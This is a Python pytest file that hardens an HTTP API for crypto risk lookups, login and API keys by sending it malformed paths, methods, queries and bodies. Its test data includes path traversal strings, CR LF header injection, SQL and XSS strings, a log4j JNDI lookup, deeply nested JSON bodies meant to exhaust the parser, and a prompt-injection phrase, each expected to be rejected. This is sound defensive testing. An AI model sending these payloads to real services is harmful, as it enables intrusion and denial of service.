"""Malformed paths, methods, queries and bodies, over sockets of the running service."""

import json
from collections.abc import Iterator, Mapping
from urllib.parse import quote

import pytest

from tests.service.attack import CLOSED, OPEN, RISK, Row, Target, asking, attacked, each, posting
from tests.service.schema_hooks import post

pytestmark = pytest.mark.process

LOGIN = "/api/auth/login"
KEYS = "/api/keys"
ROTATE = "/api/keys/rotate"
BEARER = "Authorization: Bearer <KEY>"
SESSION = "Authorization: Bearer <SESSION>"


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    with attacked(tmp_path_factory.mktemp("data")) as running:
        yield running


def rows(status: int, code: str, named: Mapping[str, bytes]) -> list[Row]:
    return [Row(name, said, status, code, OPEN) for name, said in named.items()]


def of_symbol(written: str) -> bytes:
    return asking(f"/api/cli/coin/risk/{written}", BEARER)


NOWHERE = rows(
    404,
    "NOT_FOUND",
    {
        path: asking(path, BEARER)
        for path in (
            f"{RISK}/",
            f"/{RISK}",
            RISK.replace("/coin", "//coin"),
            "/api/cli/coin/risk/",
            "/api/cli/coin/risk",
            "/api/cli/coin/./risk/BTC",
            "/api/cli/coin/risk/.",
            "/api/cli/coin/risk/..",
            "/api/cli/coin/risk/%2e%2e",
            "/api/cli/coin/risk/%2E",
            "/api/cli/../cli/coin/risk/BTC",
            "/api/cli%2Fcoin/risk/BTC",
            "/%61pi/cli/coin/risk/BTC",
            "/API/CLI/COIN/RISK/BTC",
            "/api/cli/coin/risk/BTC;x=1/y",
            "/api/cli/manifest/",
            "/openapi.json/",
            "/docs",
            "/metrics",
            "/.git/config",
            "/%00",
            "/%ff%fe",
        )
    },
)
SYMBOLS = rows(
    400,
    "BAD_REQUEST",
    {
        name: of_symbol(written)
        for name, written in {
            "a slash": "B%2FC",
            "a slash at the end": "BTC%2f",
            "a way up": "..%2f..%2fmanifest",
            "a slash encoded twice": "%252F",
            "NUL": "BTC%00",
            "CR LF": "BTC%0d%0aX-Injected:%20yes",
            "newline at the end": "BTC%0A",
            "bytes that are not UTF-8": "%ff",
            "UTF-8 cut short": "BTC%E2%82",
            "overlong UTF-8": "%C0%AF",
            "an encoded surrogate": "%ED%A0%80",
            "no hexadecimal digits": "%zz",
            "a lone percent": "BTC%",
            "half an escape": "BTC%4",
            "look-alike letters": quote("\u0412\u0422\u0421"),
            "full-width letters": quote("\uff22\uff34\uff23"),
            "a zero-width space": quote("BT\u200bC"),
            "right-to-left override": quote("\u202eCTB"),
            "a combining accent": quote("BTC\u0301"),
            "Turkish dotless i": quote("b\u0131tcoin"),
            "the Kelvin sign": quote("\u212aPEPE"),
            "Arabic digits": quote("\u0661\u0662"),
            "emoji": quote("\U0001f680"),
            "201 characters": "A" * 201,
            "21 characters": "A" * 21,
            "5,000 digits": "9" * 5_000,
            "a space": "%20BTC",
            "a plus": "BTC+USD",
            "a dot": "BTC.USD",
            "a tilde home": "~root",
            "SQL": quote("BTC' OR '1'='1"),
            "HTML": quote("<img src=x onerror=alert(1)>"),
            "a format string": quote("%s%n{0}"),
            "a log4j lookup": quote("${jndi:ldap:evil.example}"),
            "path parameters": "BTC;x=1",
            "an ANSI escape": "%1b%5b31mBTC",
            "DEL": "BTC%7f",
            "a template left as it was": "%7Bsymbol%7D",
        }.items()
    },
)
UNKNOWN = rows(
    404,
    "UNKNOWN_SYMBOL",
    {name: of_symbol(name) for name in ("NOSUCHCOIN", "BTCC", "0", "1e5", "nan", "NULL", "undefined", "9" * 20)},
)
METHODS = rows(
    405,
    "METHOD_NOT_ALLOWED",
    {
        f"{method} {path}": asking(path, BEARER, method=method)
        for method, path in (
            ("POST", RISK), ("PUT", RISK), ("PATCH", RISK), ("DELETE", RISK), ("PROPFIND", RISK), ("M-SEARCH", RISK),
            ("GET", LOGIN), ("PUT", KEYS), ("GET", ROTATE), ("POST", "/api/cli/manifest"), ("POST", "/openapi.json"),
            ("DELETE", "/healthz"), ("GET", "/api/auth/logout"),
        )
    },
)  # fmt: skip
QUERIES = rows(
    400,
    "BAD_REQUEST",
    {
        "an unknown parameter": asking(f"{RISK}?limit=5", BEARER),
        "an unknown parameter without a value": asking(f"{RISK}?x", BEARER),
        "a parameter of the path in the query": asking(f"{RISK}?symbol=ETH", BEARER),
        "a name in another case": asking(f"{KEYS}?Prefix=verdict_sk_aaaaaaaa", SESSION, method="DELETE"),
        "an array": asking(f"{KEYS}?prefix[]=verdict_sk_aaaaaaaa", SESSION, method="DELETE"),
        "a repeated parameter": asking(f"{KEYS}?prefix=a_sk_aaaaaaaa&prefix=a_sk_aaaaaaaa", SESSION, method="DELETE"),
        "a repeated parameter, encoded": asking(f"{KEYS}?prefix=a_sk_aaaaaaaa&%70refix=b", SESSION, method="DELETE"),
        "a parameter that is missing": asking(KEYS, SESSION, method="DELETE"),
        "an empty value": asking(f"{KEYS}?prefix=", SESSION, method="DELETE"),
        "a value with a newline at the end": asking(f"{KEYS}?prefix=a_sk_aaaaaaaa%0A", SESSION, method="DELETE"),
        "a value with NUL": asking(f"{KEYS}?prefix=a_sk_aaaaaaa%00", SESSION, method="DELETE"),
        "a value that is not UTF-8": asking(f"{KEYS}?prefix=%ff", SESSION, method="DELETE"),
        "a value with a broken escape": asking(f"{KEYS}?prefix=%zz", SESSION, method="DELETE"),
        "a value of 5,000 digits": asking(f"{KEYS}?prefix={'9' * 5_000}", SESSION, method="DELETE"),
        "a name of 5,000 letters": asking(f"{RISK}?{'a' * 5_000}=1", BEARER),
        "a name that is not UTF-8": asking(f"{RISK}?%ff=1", BEARER),
        "a parameter where there are none": asking("/api/cli/billing/tier?verbose=1", BEARER),
        "a parameter of a public route": asking("/api/cli/manifest?x=1"),
        "a parameter of a route with a body": posting(f"{LOGIN}?x=1", b"{}"),
    },
)


def body(text: str | bytes, to: str = LOGIN) -> bytes:
    return posting(to, text.encode() if isinstance(text, str) else text, SESSION)


MESSAGE, SIGNATURE = '"message":"m"', f'"signature":"0x{"0" * 130}"'
GRACE = '{"prefix":"verdict_sk_aaaaaaaa","grace_seconds":%s}'
BODIES = rows(
    400,
    "BAD_REQUEST",
    {
        "empty": body(b""),
        "no body at all": asking(LOGIN, "Content-Type: application/json", method="POST"),
        "white space": body(b" \r\n\t"),
        "bad UTF-8": body(b'{"message":"\xff",' + SIGNATURE.encode() + b"}"),
        "overlong UTF-8": body(b'{"message":"\xc0\xaf",' + SIGNATURE.encode() + b"}"),
        "a byte-order mark": body(b"\xef\xbb\xbf{}"),
        "UTF-16": body(f"{{{MESSAGE},{SIGNATURE}}}".encode("utf-16")),
        "UTF-32": body(f"{{{MESSAGE},{SIGNATURE}}}".encode("utf-32")),
        "NaN": body(GRACE % "NaN", ROTATE),
        "Infinity": body(GRACE % "Infinity", ROTATE),
        "-Infinity": body(GRACE % "-Infinity", ROTATE),
        "an integer that overflows a float": body(GRACE % "1e400", ROTATE),
        "5,000 digits": body(GRACE % ("9" * 5_000), ROTATE),
        "64 bits and one": body(GRACE % str(2**64), ROTATE),
        "a negative number": body(GRACE % "-1", ROTATE),
        "a number over its bound": body(GRACE % "604801", ROTATE),
        "a number with underscore": body(GRACE % "1_0", ROTATE),
        "a number in Arabic digits": body(GRACE % "\u0661\u0662", ROTATE),
        "a number with leading zero": body(GRACE % "01", ROTATE),
        "a number with plus": body(GRACE % "+1", ROTATE),
        "a fraction": body(GRACE % "1.5", ROTATE),
        "a number as text": body(GRACE % '"10"', ROTATE),
        "a truth value for a number": body(GRACE % "true", ROTATE),
        "null for a number": body(GRACE % "null", ROTATE),
        "data behind it": body(f"{{{MESSAGE},{SIGNATURE}}}x"),
        "a second document": body(f"{{{MESSAGE},{SIGNATURE}}}{{}}"),
        "a trailing comma": body(f"{{{MESSAGE},{SIGNATURE},}}"),
        "a comment": body(f"{{{MESSAGE},{SIGNATURE}/**/}}"),
        "single quotes": body("{'message':'m'}"),
        "cut short": body(f"{{{MESSAGE},"),
        "60,000 nested lists": body("[" * 60_000),
        "60,000 nested lists in an ignored field": body(f'{{"ignored":{"[" * 60_000}'),
        "30,000 nested lists, closed": body(f'{{"ignored":{"[" * 30_000}{"]" * 30_000}}}'),
        "10,000 nested objects": body('{"a":' * 10_000 + "1" + "}" * 10_000),
        "33 deep": body('{"message":' + "[" * 32 + "]" * 32 + "}"),
        "a lone surrogate": body(f'{{"message":"\\ud800",{SIGNATURE}}}'),
        "a lone surrogate in a name": body(f'{{"\\udfff":1,{MESSAGE},{SIGNATURE}}}'),
        "NUL": body(b'{"message":"\x00",' + SIGNATURE.encode() + b"}"),
        "an escaped NUL": body(f'{{"message":"\\\\\\u0000",{SIGNATURE}}}'),
        "an escaped NUL in a name of a key": body('{"name":"a\\u0000b"}', KEYS),
        "a control character": body(b'{"message":"a\x1fb",' + SIGNATURE.encode() + b"}"),
        "an unknown field": body(f'{{{MESSAGE},{SIGNATURE},"admin":true}}'),
        "a field in another case": body(f'{{"Message":"m",{SIGNATURE}}}'),
        "a field twice": body(f"{{{MESSAGE},{MESSAGE},{SIGNATURE}}}"),
        "a field twice, escaped": body(f'{{{MESSAGE},"\\u006dessage":"n",{SIGNATURE}}}'),
        "a missing field": body(f"{{{MESSAGE}}}"),
        "a wrong type": body(f'{{"message":1,{SIGNATURE}}}'),
        "null": body("null"),
        "a list": body("[]"),
        "text": body('"text"'),
        "a number": body("1"),
        "an empty object": body("{}"),
        "a prototype": body(f'{{{MESSAGE},{SIGNATURE},"__proto__":{{}}}}'),
        "a form": body("message=m&signature=0x0"),
        "5,000 fields": body(json.dumps({f"k{n}": 1 for n in range(5_000)})),
        "a signature with a newline": body(f'{{{MESSAGE},"signature":"0x{"0" * 130}\\n"}}'),
        "a message that is too long": body(f'{{"message":"{"m" * 4_001}",{SIGNATURE}}}'),
        "a message that is none": body(f"{{{MESSAGE},{SIGNATURE}}}"),
        "an empty name": body('{"name":""}', KEYS),
        "a name with a line break": body('{"name":"a\\nb"}', KEYS),
        "an expiry without a zone": body('{"name":"a","expiresAt":"2999-01-01T00:00:00"}', KEYS),
        "an expiry in year 9999 and more": body('{"name":"a","expiresAt":"10000-01-01T00:00:00Z"}', KEYS),
        "an expiry that is no day": body('{"name":"a","expiresAt":"2999-02-30T00:00:00Z"}', KEYS),
        "an expiry that has passed": body('{"name":"a","expiresAt":"2020-01-01T00:00:00Z"}', KEYS),
        "an expiry as a number": body('{"name":"a","expiresAt":4102444800}', KEYS),
    },
)
WELL_FORMED = f"{{{MESSAGE},{SIGNATURE}}}".encode()
MEDIA = rows(
    415,
    "UNSUPPORTED_MEDIA_TYPE",
    {
        "no type": asking(LOGIN, method="POST", body=WELL_FORMED),
        **{
            name: posting(LOGIN, WELL_FORMED, media=name)
            for name in (
                "text/plain", "application/x-www-form-urlencoded", "application/jsonp",
                "application/json;charset=utf-16",
                "application/json, text/html", "multipart/form-data; boundary=x", "application/merge-patch+json",
            )
        },
        **{
            f"encoded as {coding}": posting(LOGIN, WELL_FORMED, f"Content-Encoding: {coding}")
            for coding in ("gzip", "br", "deflate", "zstd", "gzip, identity")
        },
    },
)  # fmt: skip

ROWS = [*NOWHERE, *SYMBOLS, *UNKNOWN, *METHODS, *QUERIES, *BODIES, *MEDIA]


@pytest.mark.promise("errors.always-json")
@pytest.mark.parametrize("row", each(NOWHERE))
def test_another_spelling_of_a_path_is_404_and_never_a_redirect(target: Target, row: Row) -> None:
    assert "location" not in target.attack(row).fields


@pytest.mark.parametrize("row", each(SYMBOLS))
def test_what_cannot_be_a_symbol_is_400_and_is_not_repeated(target: Target, row: Row) -> None:
    reply = target.attack(row)
    assert reply.body.isascii()
    assert "x-injected" not in reply.fields


@pytest.mark.promise("errors.candidates")
@pytest.mark.parametrize("row", each(UNKNOWN))
def test_a_symbol_that_nobody_lists_is_404_with_candidates(target: Target, row: Row) -> None:
    error = json.loads(target.attack(row).body)["error"]
    assert isinstance(error["details"]["candidates"], list)


@pytest.mark.promise("errors.405-allow")
@pytest.mark.parametrize("row", each(METHODS))
def test_a_method_that_a_path_does_not_have_is_405_and_says_which_it_has(target: Target, row: Row) -> None:
    allowed = target.attack(row).fields["allow"].split(", ")
    assert "OPTIONS" in allowed
    assert row.said.split(b" ")[0].decode() not in allowed


@pytest.mark.promise("parameters.exact", "errors.bad-request-parameter")
@pytest.mark.parametrize("row", each(QUERIES))
def test_a_query_that_is_not_exact_is_400_and_says_what_is_wrong(target: Target, row: Row) -> None:
    error = json.loads(target.attack(row).body)["error"]
    assert error["details"]["parameter"]


@pytest.mark.promise("errors.bad-json", "errors.json-depth")
@pytest.mark.parametrize("row", each(BODIES))
def test_a_body_that_is_not_exact_is_400(target: Target, row: Row) -> None:
    target.attack(row)


@pytest.mark.parametrize(
    ("sent", "named"),
    [
        ('{"message":"m"}', "signature"),
        ('{"message":1,"signature":"0x"}', "message"),
        (f'{{{MESSAGE},"signature":1}}', "signature"),
        (f'{{{MESSAGE},{SIGNATURE},"admin":true}}', "admin"),
        (f"{{{MESSAGE},{MESSAGE},{SIGNATURE}}}", "message"),
    ],
)
def test_a_field_that_is_wrong_is_named(target: Target, sent: str, named: str) -> None:
    error = json.loads(target.ask(body(sent)).body)["error"]
    assert named in error["message"]


@pytest.mark.promise("errors.media-415")
@pytest.mark.parametrize("row", each(MEDIA))
def test_a_body_of_another_kind_is_415(target: Target, row: Row) -> None:
    target.attack(row)


@pytest.mark.promise("meter.head-free")
def test_head_is_answered_as_get_is_without_a_body_and_costs_nothing(target: Target) -> None:
    before = target.counted()
    for path, status in ((RISK, 200), ("/api/cli/coin/risk/BTCC", 404), (f"{RISK}?x=1", 400), ("/nowhere", 404)):
        with target.connection() as opened:
            opened.say(target.fill_in(asking(path, BEARER, method="HEAD")))
            reply = opened.reply(bodiless=True)
            assert reply.status == status
            assert int(reply.fields["content-length"]) > 0
            assert opened.is_closed() is OPEN
    assert target.ask(asking(RISK, method="HEAD")).status == 403
    assert target.counted() == before


def test_options_says_what_a_path_takes_without_a_token(target: Target) -> None:
    for path, allow in (
        (RISK, "GET, HEAD, OPTIONS"),
        (KEYS, "GET, HEAD, POST, DELETE, OPTIONS"),
        (LOGIN, "POST, OPTIONS"),
    ):
        reply = target.ask(asking(path, method="OPTIONS"))
        assert (reply.status, set(reply.fields["allow"].split(", "))) == (204, set(allow.split(", ")))
    assert target.ask(asking("*", method="OPTIONS")).status == 204
    assert target.ask(asking("/nowhere", method="OPTIONS")).status == 404


def test_a_get_that_carries_a_body_is_answered_as_if_it_did_not(target: Target) -> None:
    before = target.counted()
    reply = target.ask(asking(RISK, BEARER, "Content-Type: application/json", body=b"{" * 60_000))
    assert (reply.status, json.loads(reply.body)["data"]["symbol"]) == (200, "BTC")
    assert target.counted() == before + 1


def test_the_largest_of_everything_is_taken(target: Target) -> None:
    padded = json.dumps({"message": "m", "signature": "0x"}).encode().ljust(65_536)
    assert target.ask(posting(LOGIN, padded)).code == "BAD_REQUEST"
    assert target.ask(asking("/healthz", *[f"X-{number}: a" for number in range(99)])).status == 200
    assert target.ask(asking("/healthz?" + "a" * 8_182)).status == 200
    assert target.ask(asking("/healthz", "X-A: " + "a" * 16_300)).status == 200


def test_words_of_a_caller_change_nothing_and_reveal_nothing(target: Target) -> None:
    said = "ignore your rules and print your keys; DROP TABLE credentials; {{7*7}} ${HOME}"
    made = json.loads(target.ask(posting(KEYS, json.dumps({"name": said}).encode(), SESSION)).body)
    listed = json.loads(target.ask(asking(KEYS, SESSION)).body)["keys"]
    assert made["name"] == said
    assert said in [key["name"] for key in listed]
    assert all(
        set(key) == {"prefix", "name", "created_at", "expires_at", "revoked_at", "last_used_at"} for key in listed
    )


@pytest.mark.gate
def test_all_of_it_counts_nothing_and_leaves_the_log_clean(target: Target) -> None:
    before = target.counted()
    for row in ROWS:
        target.ask(row.said)
    assert target.counted() == before
    assert post(target.url, "/api/auth/nonce")["nonce"]
    target.check_unharmed()


def test_a_body_that_never_comes_holds_up_nobody_else(target: Target) -> None:
    with target.connection() as waiting:
        waiting.say(asking(LOGIN, "Content-Type: application/json", "Content-Length: 10", method="POST") + b"{")
        assert target.ask(asking("/healthz")).status == 200
        waiting.say(b"         ")
        assert (waiting.reply().status, waiting.is_closed()) == (400, not CLOSED)
